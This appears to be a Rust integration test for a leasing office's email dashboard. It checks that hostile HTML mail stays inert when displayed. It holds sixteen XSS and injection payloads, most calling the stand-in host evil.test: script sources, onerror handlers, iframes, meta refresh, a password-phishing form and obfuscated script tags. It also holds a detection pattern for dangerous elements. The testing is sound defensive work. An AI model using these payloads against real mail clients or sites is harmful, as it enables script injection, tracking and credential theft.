//! Mail that wants to act in the reader's browser is text there.

use std::time::Duration;

use serde_json::json;

use super::Office;

/// Where the mails want the browser to go.
const EVIL: &str = "http://evil.test";

/// Markup, and whether it acts by itself where a browser is given it as a page.
struct Attack {
    html: &'static str,
    acts: bool,
}

const fn acts(html: &'static str) -> Attack {
    Attack { html, acts: true }
}

const fn waits(html: &'static str) -> Attack {
    Attack { html, acts: false }
}

const ATTACKS: [Attack; 16] = [
    acts("<p>Hi</p><script>document.title = 'owned'</script>"),
    acts("<p>Hi</p><script src=http://evil.test/a.js></script>"),
    acts("<p>Hi</p><img src=x onerror=\"document.title = 'owned'\">"),
    acts("<p>Hi</p><svg onload=\"document.title = 'owned'\"></svg>"),
    acts("<p>Hi</p><img src=http://evil.test/pixel.gif width=1 height=1>"),
    acts("<style>body { background: url(http://evil.test/b.png) }</style><p>Hi</p>"),
    acts("<p style=\"background: url('http://evil.test/c.png')\">Hi</p>"),
    acts("<p>Hi</p><iframe src=http://evil.test/frame></iframe>"),
    acts("<p>Hi</p><iframe srcdoc=\"<script>parent.document.title = 'owned'</script>\"></iframe>"),
    acts("<meta http-equiv=refresh content=\"0; url=http://evil.test/away\"><p>Hi</p>"),
    acts("<base href=http://evil.test/><p>Hi</p><img src=relative.png>"),
    acts("<link rel=stylesheet href=http://evil.test/s.css><p>Hi</p>"),
    waits(
        "<p>Hi</p><form action=http://evil.test/post><input name=password><button>Sign in</button></form>",
    ),
    waits(
        "<p>Hi</p><a href=\"javascript:document.title='owned'\">Click</a> <a href=\"data:text/html,<script>1</script>\">Me</a>",
    ),
    waits(
        "<p>Hi \u{202e}tpircs\u{202c} \u{ff1c}script\u{ff1e}document.title='owned'\u{ff1c}/script\u{ff1e} +ADw-script+AD4- \u{feff}</p>",
    ),
    waits(
        "<p>Hi</p></div></article></main></body></html><!-- --><title>owned</title><h1>Owned</h1>",
    ),
];

/// Elements that no page of ours has, and attributes that run something.
const FOREIGN: &str = "return [...document.querySelectorAll('*')].filter(one =>
    one.matches('script, img, iframe, style, base, meta[http-equiv], object, embed')
    || one.matches('form:not([action^=\"/dashboard\"]), a:not([href^=\"/\"], [href^=\"#\"])')
    || one.matches('link:not([href^=\"/dashboard/\"], [href=\"data:,\"])')
    || [...one.attributes].some(attribute => attribute.name.startsWith('on') || attribute.name === 'style')
).map(one => one.outerHTML)";

#[tokio::test]
async fn hostile_mail_neither_runs_nor_calls_out() {
    let office = Office::open().await;
    let (world, admin) = (&office.world, &office.admin);
    let mailbox = world.connects(&office.oak, "leasing@oak.test").await;
    for (number, attack) in ATTACKS.iter().enumerate() {
        let from = format!("\"<img src={EVIL}/n.png> {number}\" <ann{number}@example.com>");
        let subject = format!("<script>document.title = 'owned'</script> {number}");
        let mail = mailbox.incoming(&from, &subject, attack.html);
        mail.header("Content-Type", "text/html; charset=UTF-8")
            .deliver();
        // Markup in a mail that says it is plain is what somebody wrote.
        mailbox.receives(&from, &subject, attack.html);
    }
    world.deliver_pushes().await;
    office.signs_in().await;
    let filed = world
        .texts("select id::text from email_threads order by 1")
        .await;
    assert_eq!(filed.len(), 2 * ATTACKS.len());
    admin.asked_hosts().await;
    for id in filed {
        office.visits(&format!("/dashboard/threads/{id}")).await;
        admin.sees("Hi").await;
        office.is_inert().await;
    }
    for path in office.pages().await.into_values() {
        office.visits(&path).await;
        office.is_inert().await;
    }
    office.closes().await;
}

#[tokio::test]
async fn the_same_markup_acts_where_a_browser_is_given_it_as_a_page() {
    let office = Office::open().await;
    let admin = &office.admin;
    for attack in ATTACKS.iter().filter(|attack| attack.acts) {
        admin.opens_text(attack.html).await;
        let mut acted = false;
        for _ in 0..200 {
            acted = admin.title().await == "owned" || admin.asked_hosts().await.contains(EVIL);
            if acted {
                break;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        assert!(acted, "{}", attack.html);
    }
    office.closes().await;
}

impl Office {
    /// Nothing of a mail's has become part of the page, and nobody else was asked for anything.
    async fn is_inert(&self) {
        let at = self.admin.address().await;
        let title = self.admin.title().await;
        assert!(title.ends_with("LumaLeasing"), "{at}: {title}");
        assert_eq!(self.admin.examines(FOREIGN).await, json!([]), "{at}");
        let hosts: Vec<String> = self.admin.asked_hosts().await.into_iter().collect();
        assert_eq!(hosts, [self.site.as_str()], "{at}");
    }
}
